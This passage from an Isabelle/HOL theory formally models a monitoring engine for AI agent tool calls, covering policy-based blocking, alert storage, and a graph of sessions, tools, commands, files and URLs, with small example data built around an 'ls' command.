      | FILE_DELETE \<Rightarrow> ''file_delete'' | COMMAND_EXEC \<Rightarrow> ''command_exec''
      | NETWORK_ACCESS \<Rightarrow> ''network_access'' | CODE_EXECUTION \<Rightarrow> ''code_execution''
      | SUBAGENT_SPAWN \<Rightarrow> ''subagent_spawn'' | MCP_TOOL_USE \<Rightarrow> ''mcp_tool_use''
      | SESSION_LIFECYCLE \<Rightarrow> ''session_lifecycle'' | UNKNOWN \<Rightarrow> ''unknown'')"

definition severity_value :: "Severity \<Rightarrow> string" where
  "severity_value s =
     (case s of CRITICAL \<Rightarrow> ''critical'' | HIGH \<Rightarrow> ''high'' | MEDIUM \<Rightarrow> ''medium''
      | LOW \<Rightarrow> ''low'' | INFO \<Rightarrow> ''info'')"

text \<open>\<open>str(uuid)\<close>: identifiers are numbers here, printed in decimal.\<close>

definition uuid_str :: "uuid \<Rightarrow> string" where
  "uuid_str i = str_nat i"

definition opt_str :: "string option \<Rightarrow> jval" where
  "opt_str x = (case x of None \<Rightarrow> JNull | Some s \<Rightarrow> JStr s)"

definition event_to_dict :: "event \<Rightarrow> pydict" where
  "event_to_dict ev =
     (let raw = (case e_raw_payload ev of None \<Rightarrow> [] | Some d \<Rightarrow> d) in
      [(''id'', JStr (uuid_str (e_id ev))),
       (''session_id'', JStr (e_session_id ev)),
       (''hook_type'', JStr (e_hook_type ev)),
       (''tool_name'', opt_str (e_tool_name ev)),
       (''tool_input'', JDict (tool_input_of ev)),
       (''tool_result'', JDict (case e_tool_result ev of None \<Rightarrow> [] | Some d \<Rightarrow> d)),
       (''category'', JStr (category_value (e_category ev))),
       (''severity'', JStr (severity_value (e_severity ev))),
       (''file_paths'', JList (map JStr (e_file_paths ev))),
       (''commands'', JList (map JStr (e_commands ev))),
       (''urls'', JList (map JStr (e_urls ev))),
       (''ip_addresses'', JList (map JStr (e_ip_addresses ev))),
       (''permission_mode'', dict_get raw ''permission_mode'' JNull),
       (''query'', dict_get raw ''query'' JNull),
       (''transcript_path'', dict_get raw ''transcript_path'' JNull),
       (''session_cwd'', py_or (dict_get raw ''session_cwd'' JNull) (dict_get raw ''cwd'' JNull)),
       (''parent_session_id'', dict_get raw ''parent_session_id'' JNull)])"

record decision =
  d_allow :: bool
  d_reason :: "string option"
  d_modified_input :: "pydict option"
  d_alert_id :: "uuid option"

definition Decision :: "bool \<Rightarrow> string option \<Rightarrow> uuid option \<Rightarrow> decision" where
  "Decision allow reason alert_id =
     \<lparr>d_allow = allow, d_reason = reason, d_modified_input = None, d_alert_id = alert_id\<rparr>"

text \<open>
  Modelled from the spec: \<open>Alert.add_evidence\<close> of models/alerts.py appends one evidence
  item carrying the event id, the time, the description, the data and the optional file
  path, command and URL.
\<close>

definition add_evidence ::
  "alert \<Rightarrow> uuid \<Rightarrow> datetime \<Rightarrow> string \<Rightarrow> pydict \<Rightarrow> string option \<Rightarrow> string option
     \<Rightarrow> string option \<Rightarrow> alert" where
  "add_evidence al event_id now description data file_path command url =
     al\<lparr>a_evidence := a_evidence al @
          [\<lparr>ae_event_id = event_id, ae_timestamp = now, ae_description = description,
            ae_data = data, ae_file_path = file_path, ae_command = command, ae_url = url\<rparr>]\<rparr>"

text \<open>
  \<open>save_alert\<close>: an insert, or on a conflict of the id an update of status, assignee,
  action notes, evidence, tags and metadata. The foreign keys of the schema are enforced
  (\<open>PRAGMA foreign_keys = ON\<close>): the session, and the policy if one is given, must exist.
\<close>

definition save_alert :: "database \<Rightarrow> alert \<Rightarrow> py_error + database" where
  "save_alert db al =
     (if a_id al \<in> set (map a_id (db_alerts db)) then
        Inr (db\<lparr>db_alerts :=
               map (\<lambda>r. if a_id r = a_id al
                        then r\<lparr>a_status := a_status al, a_assigned_to := a_assigned_to al,
                               a_action_taken := a_action_taken al, a_evidence := a_evidence al,
                               a_tags := a_tags al, a_metadata := a_metadata al\<rparr>
                        else r) (db_alerts db)\<rparr>)
      else if a_session_id al \<notin> set (map s_session_id (db_sessions db)) then Inl IntegrityError
      else if (case a_policy_id al of None \<Rightarrow> False
               | Some pid \<Rightarrow> pid \<notin> set (map p_id (db_policies db))) then Inl IntegrityError
      else Inr (db\<lparr>db_alerts := db_alerts db @ [al]\<rparr>))"

text \<open>
  The engine: the store, the queue of pending events, the cached policies, the sequence
  tracker, and the alerts handed to the broadcaster.
\<close>

record engine =
  en_database :: database
  en_event_queue :: "event list"
  en_policies :: "policy list"
  en_sequence_tracker :: tracker
  en_broadcast_alerts :: "alert list"

text \<open>
  \<open>Policy.matches\<close> belongs to models/alerts.py, which is not among the sources; it is a
  parameter of the model. By the specification it is false for a disabled policy.
\<close>

type_synonym policy_matches = "policy \<Rightarrow> pydict \<Rightarrow> bool"

definition py_or_str :: "string \<Rightarrow> string \<Rightarrow> string" where
  "py_or_str a b = (if a \<noteq> [] then a else b)"

definition first_or_none :: "string list \<Rightarrow> string option" where
  "first_or_none xs = (case xs of [] \<Rightarrow> None | x # _ \<Rightarrow> Some x)"

definition blocked_alert :: "policy \<Rightarrow> event \<Rightarrow> uuid \<Rightarrow> datetime \<Rightarrow> alert" where
  "blocked_alert pol ev alert_id now =
     add_evidence
       (Alert alert_id now (e_session_id ev)
          (py_or_str (p_alert_title pol) (''Blocked: '' @ p_name pol))
          (py_or_str (p_alert_description pol) (p_description pol))
          (p_severity pol) (e_category ev) (Some (p_id pol)) [e_id ev] True)
       (e_id ev) now (''Blocked by policy: '' @ p_name pol)
       [(''tool_name'', opt_str (e_tool_name ev)),
        (''category'', JStr (category_value (e_category ev)))]
       (first_or_none (e_file_paths ev)) (first_or_none (e_commands ev))
       (first_or_none (e_urls ev))"

text \<open>
  The loop of \<open>evaluate_pre_tool\<close> over the cached policies. \<open>alert_id\<close> is the
  \<open>uuid4\<close> of the alert and \<open>now\<close> the reading of the clock.
\<close>

fun check_block_policies ::
  "policy_matches \<Rightarrow> engine \<Rightarrow> event \<Rightarrow> uuid \<Rightarrow> datetime \<Rightarrow> policy list
     \<Rightarrow> py_error + (engine \<times> decision)" where
  "check_block_policies pm en ev alert_id now [] = Inr (en, Decision True None None)"
| "check_block_policies pm en ev alert_id now (pol # pols) =
     (if p_action pol \<noteq> BLOCK then check_block_policies pm en ev alert_id now pols
      else if pm pol (event_to_dict ev) then
        (let al = blocked_alert pol ev alert_id now in
         case save_alert (en_database en) al of
           Inl err \<Rightarrow> Inl err
         | Inr db1 \<Rightarrow>
             Inr (en\<lparr>en_database := increment_session_alert_count db1 (e_session_id ev),
                     en_broadcast_alerts := en_broadcast_alerts en @ [al]\<rparr>,
                  Decision False (Some (''Blocked by policy: '' @ p_name pol)) (Some (a_id al))))
      else check_block_policies pm en ev alert_id now pols)"

text \<open>\<open>evaluate_pre_tool\<close> returns the engine, the event as enriched and classified, and the decision.\<close>

definition evaluate_pre_tool ::
  "pylib \<Rightarrow> policy_matches \<Rightarrow> engine \<Rightarrow> event \<Rightarrow> uuid \<Rightarrow> datetime
     \<Rightarrow> py_error + (engine \<times> event \<times> decision)" where
  "evaluate_pre_tool lib pm en event alert_id now =
     (case enrich lib event of Inl err \<Rightarrow> Inl err | Inr ev1 \<Rightarrow>
      case classify lib ev1 of Inl err \<Rightarrow> Inl err | Inr ev2 \<Rightarrow>
      case check_block_policies pm en ev2 alert_id now (en_policies en) of
        Inl err \<Rightarrow> Inl err
      | Inr (en1, dec) \<Rightarrow> Inr (en1, ev2, dec))"

text \<open>The first cached BLOCK policy that matches the event.\<close>

definition first_block_match :: "policy_matches \<Rightarrow> policy list \<Rightarrow> event \<Rightarrow> policy option" where
  "first_block_match pm pols ev =
     find (\<lambda>pol. p_action pol = BLOCK \<and> pm pol (event_to_dict ev)) pols"

text \<open>What a call of \<open>evaluate_pre_tool\<close> returned, if it returned.\<close>

definition returned_engine :: "py_error + (engine \<times> event \<times> decision) \<Rightarrow> engine option" where
  "returned_engine r = (case r of Inl _ \<Rightarrow> None | Inr (en, ev, dec) \<Rightarrow> Some en)"

definition returned_decision :: "py_error + (engine \<times> event \<times> decision) \<Rightarrow> decision option" where
  "returned_decision r = (case r of Inl _ \<Rightarrow> None | Inr (en, ev, dec) \<Rightarrow> Some dec)"

text \<open>The tool input has strings under the keys that enrichment and classification read.\<close>

definition is_str :: "jval \<Rightarrow> bool" where
  "is_str v = (case v of JStr _ \<Rightarrow> True | _ \<Rightarrow> False)"

definition string_fields :: "event \<Rightarrow> bool" where
  "string_fields ev =
     list_all (\<lambda>k. case map_of (tool_input_of ev) k of None \<Rightarrow> True | Some v \<Rightarrow> is_str v)
       [''file_path'', ''path'', ''notebook_path'', ''pattern'', ''command'', ''url'']"

subsection \<open>Example data: a policy that blocks everything\<close>

text \<open>A regular-expression library that finds nothing, as \<open>re\<close> does in the empty string.\<close>

definition quiet_lib :: pylib where
  "quiet_lib =
     \<lparr>re_findall = (\<lambda>_ _. []), re_groups = (\<lambda>_ _. []), re_search_i = (\<lambda>_ _. False),
      urlparse_hostname = (\<lambda>_. None)\<rparr>"

definition block_all_policy :: policy where
  "block_all_policy =
     \<lparr>p_id = 5, p_name = ''P1'', p_description = ''blocks every tool call'', p_enabled = True,
      p_categories = [], p_tools = [], p_conditions = [], p_condition_logic = ''all'',
      p_action = BLOCK, p_severity = HIGH, p_alert_title = [], p_alert_description = [],
      p_tags = []\<rparr>"

text \<open>
  Modelled from the spec: a policy with no categories, no tools and no conditions matches
  every event when it is enabled.
\<close>

definition matches_enabled :: policy_matches where
  "matches_enabled pol event_data = p_enabled pol"

definition block_engine :: engine where
  "block_engine =
     \<lparr>en_database = empty_database\<lparr>db_sessions := [Session 1 ''s1'' 0],
                                      db_policies := [block_all_policy]\<rparr>,
      en_event_queue = [], en_policies = [block_all_policy],
      en_sequence_tracker = SequenceTracker 100, en_broadcast_alerts = []\<rparr>"

text \<open>A Bash call with an empty tool input.\<close>

definition bash_event :: event where
  "bash_event = Event 7 ''s1'' 0 ''PreToolUse'' (Some ''Bash'') (Some [])"

definition bash_event_classified :: event where
  "bash_event_classified = bash_event\<lparr>e_category := COMMAND_EXEC, e_enriched := True\<rparr>"

text \<open>The example engine after the Bash call has been denied with alert 9 at time 100.\<close>

definition blocked_engine :: engine where
  "blocked_engine =
     block_engine
       \<lparr>en_database := (en_database block_engine)
          \<lparr>db_sessions := [(Session 1 ''s1'' 0)\<lparr>s_alert_count := 1\<rparr>],
           db_alerts := [blocked_alert block_all_policy bash_event_classified 9 100]\<rparr>,
        en_broadcast_alerts := [blocked_alert block_all_policy bash_event_classified 9 100]\<rparr>"

section \<open>Graph upserts (store/database.py)\<close>

text \<open>
  The two uniqueness constraints of the schema: a node is identified by its type and
  value, an edge by its source, target and relation.
\<close>

definition node_key :: "graph_node \<Rightarrow> NodeType \<times> string" where
  "node_key n = (n_node_type n, n_value n)"

definition edge_key :: "graph_edge \<Rightarrow> uuid \<times> uuid \<times> EdgeRelation" where
  "edge_key e = (ge_source_id e, ge_target_id e, ge_relation e)"

text \<open>
  \<open>save_graph_node\<close>: an insert, or on a conflict of (type, value) an update of the
  stored row; the id of the stored row is returned. Ids are \<open>uuid4\<close> values, taken not
  to collide with a stored id, so the primary key raises no conflict of its own.
\<close>

definition save_graph_node :: "database \<Rightarrow> graph_node \<Rightarrow> database \<times> uuid" where
  "save_graph_node db node =
     (let rows = db_graph_nodes db;
          rows' = (if node_key node \<in> set (map node_key rows) then
                     map (\<lambda>r. if node_key r = node_key node
                              then r\<lparr>n_last_seen := n_last_seen node,
                                     n_access_count := n_access_count r + 1,
                                     n_alert_count := n_alert_count r + n_alert_count node,
                                     n_session_ids := n_session_ids node,
                                     n_event_ids := n_event_ids node,
                                     n_size := n_size r + 1\<rparr>
                              else r) rows
                   else rows @ [node]);
          actual_id = (case find (\<lambda>r. node_key r = node_key node) rows' of
                         Some r \<Rightarrow> n_id r | None \<Rightarrow> n_id node)
      in (db\<lparr>db_graph_nodes := rows'\<rparr>, actual_id))"

definition save_graph_edge :: "database \<Rightarrow> graph_edge \<Rightarrow> database" where
  "save_graph_edge db edge =
     (let rows = db_graph_edges db in
      db\<lparr>db_graph_edges :=
           (if edge_key edge \<in> set (map edge_key rows) then
              map (\<lambda>r. if edge_key r = edge_key edge
                       then r\<lparr>ge_last_seen := ge_last_seen edge,
                              ge_count := ge_count r + 1,
                              ge_session_ids := ge_session_ids edge,
                              ge_event_ids := ge_event_ids edge,
                              ge_weight := ge_weight r + 1\<rparr>
                       else r) rows
            else rows @ [edge])\<rparr>)"

definition unique_keys :: "database \<Rightarrow> bool" where
  "unique_keys db =
     (distinct (map node_key (db_graph_nodes db)) \<and> distinct (map edge_key (db_graph_edges db)))"

section \<open>Graph builder (engine/processor.py, engine/classifier.py)\<close>

text \<open>\<open>os.path.basename\<close> and \<open>str.strip\<close>.\<close>

definition basename :: "string \<Rightarrow> string" where
  "basename p = rev (takeWhile (\<lambda>c. c \<noteq> CHR ''/'') (rev p))"

definition py_strip :: "string \<Rightarrow> string" where
  "py_strip s = rev (dropWhile is_space (rev (dropWhile is_space s)))"

text \<open>\<open>extract_command_file_refs\<close>: the files a command names, each with its role.\<close>

type_synonym command_file_ref = "string \<times> string"

definition add_ref :: "string \<Rightarrow> string \<Rightarrow> command_file_ref list \<Rightarrow> command_file_ref list" where
  "add_ref path role refs = (if (path, role) \<in> set refs then refs else refs @ [(path, role)])"

definition extract_command_file_refs :: "pylib \<Rightarrow> string \<Rightarrow> command_file_ref list" where
  "extract_command_file_refs lib command =
     (let refs0 = [];
          refs1 = fold (\<lambda>m. add_ref (fst m) ''writes'') (re_groups lib REF_CURL_OUTPUT command) refs0;
          refs2 = fold (\<lambda>m refs. if \<not> startswith (fst m) ''-'' \<and> \<not> startswith (fst m) ''/dev/''
                                  then add_ref (fst m) ''writes'' refs else refs)
                    (re_groups lib REF_REDIRECT_OUT command) refs1;
          refs3 = fold (\<lambda>m. add_ref (fst m) ''writes'') (re_groups lib REF_TEE command) refs2;
          refs4 = fold (\<lambda>m refs. add_ref (snd m) ''writes'' (add_ref (fst m) ''reads'' refs))
                    (re_groups lib REF_CP_MV command) refs3;
          refs5 = fold (\<lambda>m. add_ref (fst m) ''executes'') (re_groups lib REF_INTERPRETER command) refs4;
          refs6 = fold (\<lambda>m. add_ref (fst m) ''executes'') (re_groups lib REF_DOT_SLASH command) refs5;
          refs7 = fold (\<lambda>m. add_ref (fst m) ''executes'') (re_groups lib REF_SOURCE command) refs6;
          refs8 = fold (\<lambda>m. add_ref (fst m) ''executes'') (re_groups lib REF_CHMOD_X command) refs7;
          refs9 = fold (\<lambda>m. add_ref (fst m) ''reads'') (re_groups lib REF_READERS command) refs8;
          refs10 = fold (\<lambda>m refs. if \<not> startswith (fst m) ''<''
                                   then add_ref (fst m) ''reads'' refs else refs)
                    (re_groups lib REF_REDIRECT_IN command) refs9;
          refs11 = fold (\<lambda>m. add_ref (fst m) ''reads'') (re_groups lib REF_CURL_DATA command) refs10
      in refs11)"

text \<open>
  The builder's two repeated moves: upsert a node, or an edge, that carries the event's
  session and id. \<open>uuid4\<close> gives the id drawn for a new row and \<open>now\<close> is the reading of
  the clock.
\<close>

definition upsert_node ::
  "(database \<Rightarrow> uuid) \<Rightarrow> datetime \<Rightarrow> event \<Rightarrow> NodeType \<Rightarrow> string \<Rightarrow> string \<Rightarrow> database
     \<Rightarrow> database \<times> uuid" where
  "upsert_node uuid4 now ev node_type label val db =
     save_graph_node db
       (GraphNode (uuid4 db) now node_type label val [e_session_id ev] [e_id ev])"

definition upsert_edge ::
  "(database \<Rightarrow> uuid) \<Rightarrow> datetime \<Rightarrow> event \<Rightarrow> uuid \<Rightarrow> uuid \<Rightarrow> EdgeRelation \<Rightarrow> database
     \<Rightarrow> database" where
  "upsert_edge uuid4 now ev source_id target_id relation db =
     save_graph_edge db
       (GraphEdge (uuid4 db) now source_id target_id relation [e_session_id ev] [e_id ev])"

definition file_relation :: "EventCategory \<Rightarrow> EdgeRelation" where
  "file_relation category =
     (if category = FILE_WRITE then WRITES else if category = FILE_DELETE then DELETES else READS)"

definition role_relation :: "string \<Rightarrow> EdgeRelation" where
  "role_relation role =
     (if role = ''writes'' then WRITES else if role = ''executes'' then EXECUTES else READS)"

definition base_command :: "string \<Rightarrow> string" where
  "base_command cmd =
     basename (if py_strip cmd \<noteq> [] then hd (py_split (py_strip cmd)) else ''unknown'')"

definition group_value :: "event \<Rightarrow> string \<Rightarrow> string" where
  "group_value ev cmd = ''cmdgroup:'' @ base_command cmd @ '':'' @ e_session_id ev"

definition short_label :: "string \<Rightarrow> string" where
  "short_label cmd = take 60 cmd @ (if length cmd > 60 then ''...'' else [])"

definition url_domain :: "pylib \<Rightarrow> string \<Rightarrow> string" where
  "url_domain lib url =
     (case urlparse_hostname lib url of None \<Rightarrow> url | Some h \<Rightarrow> py_or_str h url)"

text \<open>Step 3 of \<open>_build_graph\<close>, for one file path.\<close>

definition file_step ::
  "(database \<Rightarrow> uuid) \<Rightarrow> datetime \<Rightarrow> event \<Rightarrow> uuid \<Rightarrow> string \<Rightarrow> database \<Rightarrow> database" where
  "file_step uuid4 now ev parent_id fp db =
     (let (db1, file_actual_id) = upsert_node uuid4 now ev NT_FILE (py_or_str (basename fp) fp) fp db
      in upsert_edge uuid4 now ev parent_id file_actual_id (file_relation (e_category ev)) db1)"

text \<open>The data-flow edge of step 4, for one file reference of a command.\<close>

definition ref_step ::
  "(database \<Rightarrow> uuid) \<Rightarrow> datetime \<Rightarrow> event \<Rightarrow> uuid \<Rightarrow> command_file_ref \<Rightarrow> database
     \<Rightarrow> database" where
  "ref_step uuid4 now ev cmd_actual_id ref db =
     (let (db1, file_actual_id) =
            upsert_node uuid4 now ev NT_FILE (py_or_str (basename (fst ref)) (fst ref)) (fst ref) db
      in upsert_edge uuid4 now ev cmd_actual_id file_actual_id (role_relation (snd ref)) db1)"

text \<open>Step 4, for one command; the ids of the process nodes are collected.\<close>

definition command_step ::
  "(database \<Rightarrow> uuid) \<Rightarrow> datetime \<Rightarrow> pylib \<Rightarrow> event \<Rightarrow> uuid \<Rightarrow> string
     \<Rightarrow> database \<times> uuid list \<Rightarrow> database \<times> uuid list" where
  "command_step uuid4 now lib ev parent_id cmd state =
     (let (db, process_actual_ids) = state;
          (db1, group_actual_id) =
             upsert_node uuid4 now ev NT_COMMAND (base_command cmd) (group_value ev cmd) db;
          db2 = upsert_edge uuid4 now ev parent_id group_actual_id EXECUTES db1;
          (db3, cmd_actual_id) = upsert_node uuid4 now ev NT_PROCESS (short_label cmd) cmd db2;
          db4 = upsert_edge uuid4 now ev group_actual_id cmd_actual_id EXECUTES db3;
          db5 = fold (ref_step uuid4 now ev cmd_actual_id) (extract_command_file_refs lib cmd) db4
      in (db5, process_actual_ids @ [cmd_actual_id]))"

text \<open>Step 5, for one URL.\<close>

definition url_step ::
  "(database \<Rightarrow> uuid) \<Rightarrow> datetime \<Rightarrow> pylib \<Rightarrow> event \<Rightarrow> uuid \<Rightarrow> uuid list \<Rightarrow> string
     \<Rightarrow> database \<Rightarrow> database" where
  "url_step uuid4 now lib ev parent_id process_actual_ids url db =
     (let (db1, domain_actual_id) = upsert_node uuid4 now ev NT_URL (url_domain lib url) url db
      in if process_actual_ids \<noteq> [] then
           fold (\<lambda>pid. upsert_edge uuid4 now ev pid domain_actual_id CONNECTS_TO)
             process_actual_ids db1
         else upsert_edge uuid4 now ev parent_id domain_actual_id CONNECTS_TO db1)"

text \<open>Steps 1 and 2: the session node and the tool node; the parent of what follows.\<close>

definition session_and_tool ::
  "(database \<Rightarrow> uuid) \<Rightarrow> datetime \<Rightarrow> event \<Rightarrow> database \<Rightarrow> database \<times> uuid" where
  "session_and_tool uuid4 now ev db =
     (let sid = e_session_id ev;
          (db1, session_actual_id) = upsert_node uuid4 now ev NT_SESSION (take 16 sid) sid db
      in case e_tool_name ev of
           None \<Rightarrow> (db1, session_actual_id)
         | Some tool_name \<Rightarrow>
             if tool_name = [] then (db1, session_actual_id)
             else
               (let (db2, tool_actual_id) =
                      upsert_node uuid4 now ev NT_TOOL tool_name (tool_name @ '':'' @ sid) db1;
                    db3 = upsert_edge uuid4 now ev session_actual_id tool_actual_id USES db2
                in (db3, tool_actual_id)))"

text \<open>\<open>_build_graph\<close>.\<close>

definition build_graph ::
  "(database \<Rightarrow> uuid) \<Rightarrow> datetime \<Rightarrow> pylib \<Rightarrow> database \<Rightarrow> event \<Rightarrow> database" where
  "build_graph uuid4 now lib db ev =
     (let (db2, parent_id) = session_and_tool uuid4 now ev db;
          db3 = (if e_commands ev = [] then fold (file_step uuid4 now ev parent_id) (e_file_paths ev) db2
                 else db2);
          (db4, process_actual_ids) =
             fold (command_step uuid4 now lib ev parent_id) (e_commands ev) (db3, [])
      in fold (url_step uuid4 now lib ev parent_id process_actual_ids) (e_urls ev) db4)"

subsection \<open>The builder as a list of upserts\<close>

text \<open>
  What \<open>_build_graph\<close> does to the store, written as the list of its upserts, in which the
  ends of an edge are named by node keys instead of ids.
\<close>

datatype graph_op =
    NodeOp NodeType string string
  | EdgeOp "NodeType \<times> string" "NodeType \<times> string" EdgeRelation

definition node_id :: "database \<Rightarrow> NodeType \<times> string \<Rightarrow> uuid option" where
  "node_id db k = map_option n_id (find (\<lambda>r. node_key r = k) (db_graph_nodes db))"

definition run_op ::
  "(database \<Rightarrow> uuid) \<Rightarrow> datetime \<Rightarrow> event \<Rightarrow> graph_op \<Rightarrow> database \<Rightarrow> database" where
  "run_op uuid4 now ev op db =
     (case op of
        NodeOp node_type label val \<Rightarrow> fst (upsert_node uuid4 now ev node_type label val db)
      | EdgeOp k1 k2 relation \<Rightarrow>
          (case (node_id db k1, node_id db k2) of
             (Some source_id, Some target_id) \<Rightarrow>
                upsert_edge uuid4 now ev source_id target_id relation db
           | _ \<Rightarrow> db))"

definition parent_key :: "event \<Rightarrow> NodeType \<times> string" where
  "parent_key ev =
     (case e_tool_name ev of
        None \<Rightarrow> (NT_SESSION, e_session_id ev)
      | Some tool_name \<Rightarrow>
          if tool_name = [] then (NT_SESSION, e_session_id ev)
          else (NT_TOOL, tool_name @ '':'' @ e_session_id ev))"

definition session_and_tool_ops :: "event \<Rightarrow> graph_op list" where
  "session_and_tool_ops ev =
     NodeOp NT_SESSION (take 16 (e_session_id ev)) (e_session_id ev) #
     (case e_tool_name ev of
        None \<Rightarrow> []
      | Some tool_name \<Rightarrow>
          if tool_name = [] then []
          else [NodeOp NT_TOOL tool_name (tool_name @ '':'' @ e_session_id ev),
                EdgeOp (NT_SESSION, e_session_id ev)
                  (NT_TOOL, tool_name @ '':'' @ e_session_id ev) USES])"

definition file_ops :: "event \<Rightarrow> string \<Rightarrow> graph_op list" where
  "file_ops ev fp =
     [NodeOp NT_FILE (py_or_str (basename fp) fp) fp,
      EdgeOp (parent_key ev) (NT_FILE, fp) (file_relation (e_category ev))]"

definition ref_ops :: "string \<Rightarrow> command_file_ref \<Rightarrow> graph_op list" where
  "ref_ops cmd ref =
     [NodeOp NT_FILE (py_or_str (basename (fst ref)) (fst ref)) (fst ref),
      EdgeOp (NT_PROCESS, cmd) (NT_FILE, fst ref) (role_relation (snd ref))]"

definition command_ops :: "pylib \<Rightarrow> event \<Rightarrow> string \<Rightarrow> graph_op list" where
  "command_ops lib ev cmd =
     [NodeOp NT_COMMAND (base_command cmd) (group_value ev cmd),
      EdgeOp (parent_key ev) (NT_COMMAND, group_value ev cmd) EXECUTES,
      NodeOp NT_PROCESS (short_label cmd) cmd,
      EdgeOp (NT_COMMAND, group_value ev cmd) (NT_PROCESS, cmd) EXECUTES]
     @ concat (map (ref_ops cmd) (extract_command_file_refs lib cmd))"

definition url_ops :: "pylib \<Rightarrow> event \<Rightarrow> string \<Rightarrow> graph_op list" where
  "url_ops lib ev url =
     NodeOp NT_URL (url_domain lib url) url #
     (if e_commands ev \<noteq> [] then
        map (\<lambda>cmd. EdgeOp (NT_PROCESS, cmd) (NT_URL, url) CONNECTS_TO) (e_commands ev)
      else [EdgeOp (parent_key ev) (NT_URL, url) CONNECTS_TO])"

definition graph_ops :: "pylib \<Rightarrow> event \<Rightarrow> graph_op list" where
  "graph_ops lib ev =
     session_and_tool_ops ev
     @ (if e_commands ev = [] then concat (map (file_ops ev) (e_file_paths ev)) else [])
     @ concat (map (command_ops lib ev) (e_commands ev))
     @ concat (map (url_ops lib ev) (e_urls ev))"

text \<open>
  How often a list of upserts names a node key, and how often it names an edge key: the
  ends of an edge are looked up in the store.
\<close>

fun op_node_key :: "graph_op \<Rightarrow> (NodeType \<times> string) option" where
  "op_node_key (NodeOp node_type label val) = Some (node_type, val)"
| "op_node_key (EdgeOp k1 k2 relation) = None"

definition op_edge_key :: "database \<Rightarrow> graph_op \<Rightarrow> (uuid \<times> uuid \<times> EdgeRelation) option" where
  "op_edge_key db op =
     (case op of
        NodeOp node_type label val \<Rightarrow> None
      | EdgeOp k1 k2 relation \<Rightarrow>
          (case (node_id db k1, node_id db k2) of
             (Some source_id, Some target_id) \<Rightarrow> Some (source_id, target_id, relation)
           | _ \<Rightarrow> None))"

definition node_upserts :: "graph_op list \<Rightarrow> NodeType \<times> string \<Rightarrow> nat" where
  "node_upserts ops k = length (filter (\<lambda>op. op_node_key op = Some k) ops)"

definition edge_upserts ::
  "database \<Rightarrow> graph_op list \<Rightarrow> uuid \<times> uuid \<times> EdgeRelation \<Rightarrow> nat" where
  "edge_upserts db ops k = length (filter (\<lambda>op. op_edge_key db op = Some k) ops)"

text \<open>
  A stored row after \<open>c\<close> further upserts of its key at the clock reading \<open>now\<close>: as it
  was when \<open>c\<close> is 0; otherwise last seen at \<open>now\<close>, with its two counters raised by \<open>c\<close>.
\<close>

definition node_seen_again :: "datetime \<Rightarrow> nat \<Rightarrow> graph_node \<Rightarrow> graph_node" where
  "node_seen_again now c r =
     (if c = 0 then r
      else r\<lparr>n_last_seen := now, n_access_count := n_access_count r + int c,
             n_size := n_size r + of_nat c\<rparr>)"

definition edge_seen_again :: "datetime \<Rightarrow> nat \<Rightarrow> graph_edge \<Rightarrow> graph_edge" where
  "edge_seen_again now c r =
     (if c = 0 then r
      else r\<lparr>ge_last_seen := now, ge_count := ge_count r + int c,
             ge_weight := ge_weight r + of_nat c\<rparr>)"

text \<open>The key of an upsert is in the store.\<close>

definition op_stored :: "database \<Rightarrow> graph_op \<Rightarrow> bool" where
  "op_stored db op =
     (case op of
        NodeOp node_type label val \<Rightarrow> (node_type, val) \<in> set (map node_key (db_graph_nodes db))
      | EdgeOp k1 k2 relation \<Rightarrow>
          (case op_edge_key db op of
             None \<Rightarrow> False
           | Some k \<Rightarrow> k \<in> set (map edge_key (db_graph_edges db))))"

text \<open>
  A key has been upserted for the event: it is stored, and the rows that bear it carry
  the event's session and id.
\<close>

definition node_done :: "event \<Rightarrow> database \<Rightarrow> NodeType \<times> string \<Rightarrow> bool" where
  "node_done ev db k =
     (node_id db k \<noteq> None
      \<and> list_all (\<lambda>r. node_key r = k \<longrightarrow>
                     n_session_ids r = [e_session_id ev] \<and> n_event_ids r = [e_id ev])
          (db_graph_nodes db))"

definition edge_done :: "event \<Rightarrow> database \<Rightarrow> uuid \<times> uuid \<times> EdgeRelation \<Rightarrow> bool" where
  "edge_done ev db k =
     (k \<in> set (map edge_key (db_graph_edges db))
      \<and> list_all (\<lambda>r. edge_key r = k \<longrightarrow>
                     ge_session_ids r = [e_session_id ev] \<and> ge_event_ids r = [e_id ev])
          (db_graph_edges db))"

fun op_done :: "event \<Rightarrow> database \<Rightarrow> graph_op \<Rightarrow> bool" where
  "op_done ev db (NodeOp node_type label val) = node_done ev db (node_type, val)"
| "op_done ev db (EdgeOp k1 k2 relation) =
     (case (node_id db k1, node_id db k2) of
        (Some source_id, Some target_id) \<Rightarrow> edge_done ev db (source_id, target_id, relation)
      | _ \<Rightarrow> False)"

text \<open>The keys a list of upserts stores, and: every edge is between keys stored before it.\<close>

fun op_keys :: "graph_op list \<Rightarrow> (NodeType \<times> string) set" where
  "op_keys [] = {}"
| "op_keys (NodeOp node_type label val # ops) = insert (node_type, val) (op_keys ops)"
| "op_keys (EdgeOp k1 k2 relation # ops) = op_keys ops"

fun ops_wf :: "(NodeType \<times> string) set \<Rightarrow> graph_op list \<Rightarrow> bool" where
  "ops_wf seen [] = True"
| "ops_wf seen (NodeOp node_type label val # ops) = ops_wf (insert (node_type, val) seen) ops"
| "ops_wf seen (EdgeOp k1 k2 relation # ops) = (k1 \<in> seen \<and> k2 \<in> seen \<and> ops_wf seen ops)"

subsection \<open>Example data: a Bash call that runs \<open>ls\<close>\<close>

text \<open>The event as enriched; in \<open>ls\<close> the file-reference patterns find nothing.\<close>

definition ls_bash_event :: event where
  "ls_bash_event =
     (Event 7 ''s1'' 0 ''PostToolUse'' (Some ''Bash'') (Some [(''command'', JStr ''ls'')]))
       \<lparr>e_category := COMMAND_EXEC, e_commands := [''ls''], e_enriched := True\<rparr>"

text \<open>An id supply: the number of stored graph rows plus one.\<close>

definition next_id :: "database \<Rightarrow> uuid" where
  "next_id db = length (db_graph_nodes db) + length (db_graph_edges db) + 1"

definition ls_graph :: database where
  "ls_graph = build_graph next_id 10 quiet_lib empty_database ls_bash_event"

definition ls_graph_again :: database where
  "ls_graph_again = build_graph next_id 20 quiet_lib ls_graph ls_bash_event"

text \<open>The same call in a second session, after the first.\<close>

definition ls_bash_event_s2 :: event where
  "ls_bash_event_s2 = ls_bash_event\<lparr>e_id := 8, e_session_id := ''s2''\<rparr>"

definition two_sessions_graph :: database where
  "two_sessions_graph = build_graph next_id 20 quiet_lib ls_graph ls_bash_event_s2"

section \<open>Verification\<close>

subsection \<open>Classification of commands\<close>

text \<open>
  Claim C3 as stated fails: the command \<open>sync\<close> has no token that is a network utility,
